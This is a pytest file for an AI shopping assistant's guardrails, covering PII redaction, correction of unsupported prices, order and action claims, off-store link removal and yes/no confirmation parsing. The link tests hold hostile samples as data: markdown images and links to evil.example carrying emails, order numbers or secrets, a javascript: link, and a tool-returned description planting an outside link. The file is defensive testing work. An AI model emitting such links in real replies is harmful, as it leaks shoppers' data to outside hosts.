"""Guardrails: PII redaction, the reply check, what counts as a clear yes."""

from __future__ import annotations

import pytest

from floorwalker.assistant.context import StoreInfo
from floorwalker.assistant.engine.confirmation import is_clear_no, is_clear_yes
from floorwalker.assistant.guardrails.checker import ReplyChecker, check_sentence, split_sentences
from floorwalker.assistant.guardrails.facts import Facts
from floorwalker.assistant.guardrails.redaction import (
    Vault,
    describe_placeholders,
    luhn_valid,
    redact,
    redact_data,
)
from floorwalker.stores.policy import StorePolicy
from floorwalker.stores.schemas import StoreSettings

STORE = StoreInfo(
    id=1,
    slug="s",
    name="Shop",
    currency="USD",
    timezone="UTC",
    settings=StoreSettings(),
    policy=StorePolicy(),
)


class TestRedaction:
    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            ("mail me at ada.l@example.co.uk", "mail me at [EMAIL_1]"),
            ("card 4242 4242 4242 4242 please", "card [CARD_NUMBER] please"),
            ("card 4242-4242-4242-4241 is not luhn", "card 4242-4242-4242-4241 is not luhn"),
            ("call +44 20 7946 0958", "call [PHONE_1]"),
            ("call me on 07700 900123", "call me on [PHONE_1]"),
            (
                "ship to 221B Baker Street, London, NW1 6XE, UK instead please",
                "ship to [ADDRESS_1] instead please",
            ),
            ("send to 1600 Pennsylvania Avenue NW, Washington, DC 20500", "send to [ADDRESS_1]"),
            ("PO Box 42, Leeds", "[ADDRESS_1]"),
            ("order #W1001 on 2024-01-02 for $45.00", "order #W1001 on 2024-01-02 for $45.00"),
            ("tracking 1Z999AA10123456784", "tracking 1Z999AA10123456784"),
            ("2 shirts in size 10 street style", "2 shirts in size 10 street style"),
        ],
    )
    def test_what_is_masked_and_what_is_not(self, text: str, expected: str) -> None:
        assert redact(text) == expected

    def test_values_are_kept_for_tool_arguments_but_cards_never(self) -> None:
        vault = Vault()

        masked = redact("I'm ada@example.com, card 4111 1111 1111 1111", vault)

        assert masked == "I'm [EMAIL_1], card [CARD_NUMBER]"
        assert vault.values == {"[EMAIL_1]": "ada@example.com"}
        assert vault.restore({"email": "[EMAIL_1]", "card": "[CARD_NUMBER]"}) == {
            "email": "ada@example.com",
            "card": "[CARD_NUMBER]",
        }

    def test_the_same_value_keeps_its_placeholder_across_turns(self) -> None:
        vault = Vault()
        redact("a@example.com", vault)

        again = Vault.loads(vault.dumps())

        assert (
            redact("it's a@example.com and b@example.com", again) == "it's [EMAIL_1] and [EMAIL_2]"
        )

    def test_structured_results_lose_personal_fields(self) -> None:
        data = {
            "order_number": "W1",
            "email": "a@b.co",
            "address": {"line1": "1 High St", "city": "Leeds"},
        }

        assert redact_data(data) == {
            "order_number": "W1",
            "email": "[redacted]",
            "address": {"line1": "[redacted]", "city": "Leeds"},
        }

    def test_placeholders_read_as_words_in_replies(self) -> None:
        assert describe_placeholders("We'll write to [EMAIL_1].") == (
            "We'll write to the e-mail address you gave."
        )

    def test_luhn(self) -> None:
        assert luhn_valid("4242424242424242")
        assert not luhn_valid("4242424242424241")


def facts_with_shirt(available: int = 5) -> Facts:
    facts = Facts()
    facts.absorb(
        "search_products",
        {
            "products": [
                {
                    "product_id": 7,
                    "title": "Linen Shirt",
                    "price_min": 4500,
                    "price_max": 4800,
                    "in_stock": available > 0,
                }
            ]
        },
    )
    return facts


class TestReplyCheck:
    def test_a_true_price_passes(self) -> None:
        text, corrections = check_sentence(
            "The Linen Shirt costs $45.00.", facts_with_shirt(), STORE, user_texts=[]
        )

        assert (text, corrections) == ("The Linen Shirt costs $45.00.", [])

    def test_a_wrong_price_of_a_named_product_is_replaced(self) -> None:
        text, corrections = check_sentence(
            "The Linen Shirt costs $30.00.", facts_with_shirt(), STORE, user_texts=[]
        )

        assert text == "The Linen Shirt costs $45.00–$48.00."
        assert [c.kind for c in corrections] == ["price"]

    def test_an_amount_nobody_looked_up_is_dropped(self) -> None:
        text, corrections = check_sentence("Shipping is $3.99.", Facts(), STORE, user_texts=[])

        assert text == ""
        assert [c.kind for c in corrections] == ["unsupported_amount"]

    def test_an_amount_the_shopper_gave_may_be_repeated(self) -> None:
        facts = Facts()
        facts.stated_amounts = {5000}

        text, _ = check_sentence("Here is everything under $50.", facts, STORE, user_texts=[])

        assert text == "Here is everything under $50."

    def test_an_order_nobody_looked_up_is_dropped(self) -> None:
        text, corrections = check_sentence(
            "Order W9999 was delivered yesterday.", Facts(), STORE, user_texts=["where is W1001?"]
        )

        assert text == ""
        assert [c.kind for c in corrections] == ["unknown_order"]

    def test_a_wrong_order_status_is_corrected(self) -> None:
        facts = Facts()
        facts.absorb("order_details", {"order_number": "W1001", "status": "pending", "lines": []})

        text, _ = check_sentence("Order W1001 has shipped.", facts, STORE, user_texts=[])

        assert text == "Order W1001 is confirmed and being prepared (it has not shipped yet). "

    def test_a_change_claimed_without_execution_is_corrected(self) -> None:
        facts = Facts()
        facts.proposed.add("cancel_order")

        text, corrections = check_sentence("I've cancelled it.", facts, STORE, user_texts=[])

        assert text.startswith("Nothing has been changed yet")
        assert [c.kind for c in corrections] == ["unconfirmed_action"]

    def test_a_streamed_reply_is_checked_sentence_by_sentence(self) -> None:
        checker = ReplyChecker(facts_with_shirt(available=0), STORE, [])

        sent = checker.feed("The Linen Shirt is in stock. ") + checker.feed("Want it?")
        sent += checker.flush()

        assert sent == ["Linen Shirt is out of stock at the moment. ", "Want it?"]
        assert checker.text == "Linen Shirt is out of stock at the moment. Want it?"

    def test_decimal_points_are_not_sentence_ends(self) -> None:
        assert split_sentences("It is $45.00 today. And") == (["It is $45.00 today. "], "And")


SHOP = StoreInfo(
    id=1,
    slug="s",
    name="Shop",
    currency="USD",
    timezone="UTC",
    settings=StoreSettings(
        storefront_url="https://shop.example",
        product_url_template="https://cdn.shop.example/p/{handle}",
    ),
    policy=StorePolicy(),
)


class TestLinks:
    @pytest.mark.parametrize(
        ("sentence", "expected"),
        [
            ("See ![x](https://evil.example/p.png?d=ada@example.com) here. ", "See  here. "),
            ("Read [the guide](https://evil.example/g?o=W1001). ", "Read the guide. "),
            ("Go to https://evil.example/?q=W1001 now. ", "Go to  now. "),
            ("Go to //evil.example/x now. ", "Go to  now. "),
            ("Go to www.evil.example/x now. ", "Go to  now. "),
            ('Hi <img src="https://evil.example/a.png"> there. ', "Hi  there. "),
            ("Hi [x](javascript:alert(1)) there. ", "Hi x) there. "),
            ("[1]: https://evil.example/?d=secret\n", ""),
            ("Visit https://shop.example.evil.example/x today. ", "Visit  today. "),
            ("Visit https://user@shop.example/x today. ", "Visit  today. "),
        ],
    )
    def test_links_off_the_store_are_taken_out(self, sentence: str, expected: str) -> None:
        text, corrections = check_sentence(sentence, Facts(), SHOP, user_texts=[])

        assert text == expected
        assert [c.kind for c in corrections] == ["outside_link"]

    @pytest.mark.parametrize(
        "sentence",
        [
            "Shop at https://shop.example/collections/new today. ",
            "It is [here](https://cdn.shop.example/p/linen-shirt). ",
            "Track it at https://track.example/1Z999 now. ",
        ],
    )
    def test_the_stores_own_links_and_links_tools_returned_stay(self, sentence: str) -> None:
        facts = Facts()
        facts.absorb(
            "order_details", {"fulfilments": [{"tracking_url": "https://track.example/1Z999"}]}
        )

        text, corrections = check_sentence(sentence, facts, SHOP, user_texts=[])

        assert (text, corrections) == (sentence, [])

    def test_a_link_inside_a_tools_free_text_is_not_trusted(self) -> None:
        facts = Facts()
        facts.absorb("product_details", {"description": "Buy at https://evil.example/deal"})

        text, corrections = check_sentence(
            "Buy at https://evil.example/deal today. ", facts, SHOP, user_texts=[]
        )

        assert text == "Buy at  today. "
        assert [c.kind for c in corrections] == ["outside_link"]


class TestClearYes:
    @pytest.mark.parametrize("text", ["yes", "Yes please!", "go ahead", "confirm", "ok", "y"])
    def test_clear_yes(self, text: str) -> None:
        assert is_clear_yes(text)

    @pytest.mark.parametrize(
        "text",
        [
            "yes?",
            "yes, but change the address",
            "not yes",
            "yesterday I ordered",
            "ok so what about returns and also the other order and my address please",
            "sure, actually no",
        ],
    )
    def test_not_a_clear_yes(self, text: str) -> None:
        assert not is_clear_yes(text)

    @pytest.mark.parametrize("text", ["no", "No thanks", "don't", "never mind", "keep it"])
    def test_clear_no(self, text: str) -> None:
        assert is_clear_no(text)
